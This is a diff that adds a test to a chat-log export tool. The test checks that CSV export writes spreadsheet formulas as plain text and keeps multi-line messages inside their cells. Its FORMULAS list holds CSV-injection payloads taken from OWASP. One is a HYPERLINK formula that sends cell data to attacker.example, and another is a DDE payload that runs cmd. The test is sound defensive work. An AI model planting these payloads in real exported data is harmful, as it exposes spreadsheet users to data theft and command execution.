@@ -110,6 +110,41 @@ def test_export_csv_round_trips_the_extracted_columns(log_app: Any, tmp_path: An
     assert table[6]["event"] == "cdr_logged" and table[6]["customer_text"] == ""
 
 
+# What a spreadsheet runs as a formula (OWASP's CSV injection list), typed by a customer.
+FORMULAS = ['=HYPERLINK("http://attacker.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0",
+            "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
+
+
+def test_export_csv_writes_formulas_as_text_and_one_record_per_event(log_app: Any,
+                                                                       tmp_path: Any) -> None:
+    bodies = [message_body(session=f"formula-{index}", text=text)
+              for index, text in enumerate(FORMULAS)]
+    bodies += [message_body(session="lines", text="one\rtwo", reply=["three", "four"]),
+               message_body(session="crlf", text="five\r\nsix; =7+8"),
+               message_body(session="number", text="fine",
+                            intents=[{"intent": "x", "confidence": -0.5}])]
+    store_of(log_app).add_many([event(body, DAY + timedelta(minutes=index))
+                                for index, body in enumerate(bodies)])
+    target = tmp_path / "out.csv"
+    result = invoke(log_app, "export", "--format", "csv", "--output", str(target))
+    assert result.exit_code == 0, result.output
+    with target.open(newline="", encoding="utf-8") as handle:
+        records = list(csv.reader(handle))
+    assert len(records) == 1 + len(bodies)                  # each event one record
+    table = [dict(zip(records[0], record)) for record in records[1:]]
+    assert [row["customer_text"] for row in table] == \
+        ["'" + text for text in FORMULAS] + ["one\rtwo", "five\r\nsix; =7+8", "fine"]
+    assert table[6]["reply_text"] == "three\nfour"
+    assert table[8]["intent_confidence"] == "-0.5"          # a number stays a number
+    assert table[0]["session_id"] == "formula-0"
+    # every text cell is quoted, so a CR, an LF or a `;` stays inside its cell
+    with target.open(newline="", encoding="utf-8") as handle:
+        assert '"one\rtwo"' in handle.read()
+    # the JSON lines export is the events as received
+    jsonl = invoke(log_app, "export")
+    assert [json.loads(line) for line in jsonl.output.splitlines()] == bodies
+
+
 def test_export_filters_by_period_session_and_assistant(log_app: Any) -> None:
     known_data(log_app)
 
